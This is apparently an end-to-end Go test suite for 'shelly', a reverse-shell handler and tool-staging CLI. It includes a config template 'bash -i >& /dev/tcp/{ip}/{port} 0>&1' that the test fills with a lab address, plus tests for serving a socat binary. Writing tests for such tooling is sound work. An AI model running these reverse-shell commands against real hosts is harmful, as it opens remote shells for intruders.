//go:build e2e

// cli_e2e_test.go runs the shelly binary through complete operator
// workflows.
package integration

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/thruflo/shelly/internal/config"
	"github.com/thruflo/shelly/internal/testutil"
)

func TestCLI_Init(t *testing.T) {
	h := NewCLIHarness(t)

	result := h.Run("init")
	h.RequireSuccess(result, "init command failed")
	assert.Contains(t, result.Stdout, "Initialised "+h.Home.Dir)
	assert.FileExists(t, h.Home.ConfigFile())
	assert.DirExists(t, h.Home.ToolboxDir())

	cfg, err := config.Load(h.Home.Dir)
	require.NoError(t, err)
	assert.Contains(t, cfg.Shells, "socat")

	result = h.Run("init")
	h.RequireFailure(result, "second init should fail")
	assert.Contains(t, result.Stderr, "already exists")

	h.RequireSuccess(h.Run("init", "--force"), "init --force failed")
}

func TestCLI_HelpFlag(t *testing.T) {
	h := NewCLIHarness(t)

	result := h.Run("--help")
	h.RequireSuccess(result, "help should succeed")
	for _, want := range []string{"init", "serve", "shells", "toolbox", ":upgrade", ":socat", ":quit"} {
		assert.Contains(t, result.Stdout, want)
	}
}

func TestCLI_VersionFlag(t *testing.T) {
	h := NewCLIHarness(t)

	result := h.Run("--version")
	h.RequireSuccess(result, "version should succeed")
	assert.Contains(t, result.Stdout, "shelly version")
}

func TestCLI_UnknownCommand(t *testing.T) {
	h := NewCLIHarness(t)

	result := h.Run("nonexistent-command")
	assert.False(t, result.Success())
	assert.Equal(t, 1, result.ExitCode)
	assert.Contains(t, result.Stderr, "error:")
}

func TestCLI_NotInitialisedWithoutTTY(t *testing.T) {
	h := NewCLIHarness(t)

	result := h.Run("shells")
	h.RequireFailure(result, "shells should need a config")
	assert.Contains(t, result.Stderr, "not a terminal")
	assert.NoDirExists(t, h.Home.Dir)
}

func TestCLI_Shells(t *testing.T) {
	h := NewCLIHarness(t)
	h.RequireSuccess(h.Run("init"), "init failed")

	result := h.Run("shells")
	h.RequireSuccess(result, "shells failed")
	assert.Contains(t, result.Stdout, "bash (nc)")
	assert.Contains(t, result.Stdout, "socat (socat_raw)")
}

func TestCLI_Serve(t *testing.T) {
	h := NewCLIHarness(t)
	path := testutil.WriteArtifact(t, t.TempDir(), "socat", testutil.SampleArtifact)
	port := freePort(t)

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	done := make(chan *CLIResult, 1)
	go func() {
		done <- h.RunWithContext(ctx, nil, "serve", "--host", "127.0.0.1", "--port", fmt.Sprint(port), "socatx64.bin="+path)
	}()

	addr := fmt.Sprintf("127.0.0.1:%d", port)
	require.Eventually(t, func() bool {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			return false
		}
		// An empty connection is ignored by the server.
		conn.Close()
		return true
	}, testutil.DefaultWait, testutil.DefaultTick)

	testutil.AssertNotFoundResponse(t, testutil.Exchange(t, addr, "GET /nope HTTP/1.1\r\n\r\n"))
	testutil.AssertOKResponse(t, testutil.Exchange(t, addr, "GET /socatx64.bin HTTP/1.1\r\n\r\n"), testutil.SampleArtifact)

	select {
	case result := <-done:
		h.RequireSuccess(result, "serve should exit after delivery")
		assert.Contains(t, result.Stdout, "Delivered socatx64.bin")
	case <-time.After(testutil.DefaultWait):
		t.Fatal("serve did not exit after delivery")
	}
}

// TestCLI_ListenSession drives a full line-mode session against a listener
// that echoes its input.
func TestCLI_ListenSession(t *testing.T) {
	h := NewCLIHarness(t)
	h.WriteConfig(`shelly:
  default_http_svr: 8000
shells:
  bash:
    templates:
      - "bash -i >& /dev/tcp/{ip}/{port} 0>&1"
listener:
  command: sh
  args: ["-c", "cat"]
`)

	result := h.RunWithInput("id\n:bogus\n:quit\n", "-l", "10.10.14.2", "-p", "9001", "-s", "bash")
	h.RequireSuccess(result, "listen session failed")

	assert.Contains(t, result.Stdout, "bash -i >& /dev/tcp/10.10.14.2/9001 0>&1")
	assert.Contains(t, result.Stdout, "id\n")
	assert.Contains(t, result.Stdout, "unknown command: :bogus")
	assert.Contains(t, result.Stdout, "Session closed (operator quit)")
}

func TestCLI_ListenInputClosed(t *testing.T) {
	h := NewCLIHarness(t)
	h.WriteConfig(`listener:
  command: sh
  args: ["-c", "cat"]
`)

	result := h.RunWithInput("whoami\n", "-l", "127.0.0.1", "-p", "4444")
	h.RequireSuccess(result, "listen session failed")
	assert.Contains(t, result.Stdout, "No revshell specified")
	assert.Contains(t, result.Stdout, "whoami\n")
	assert.Contains(t, result.Stdout, "Session closed (input closed)")
}

func TestCLI_ToolboxList(t *testing.T) {
	h := NewCLIHarness(t)
	h.RequireSuccess(h.Run("init"), "init failed")
	require.NoError(t, os.WriteFile(filepath.Join(h.Home.ToolboxDir(), "socatx64.bin"), []byte(testutil.SampleArtifact), 0o755))

	result := h.Run("toolbox", "list")
	h.RequireSuccess(result, "toolbox list failed")
	assert.Contains(t, result.Stdout, "x64  socatx64.bin  cached")
}

func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	port := ln.Addr().(*net.TCPAddr).Port
	require.NoError(t, ln.Close())
	return port
}
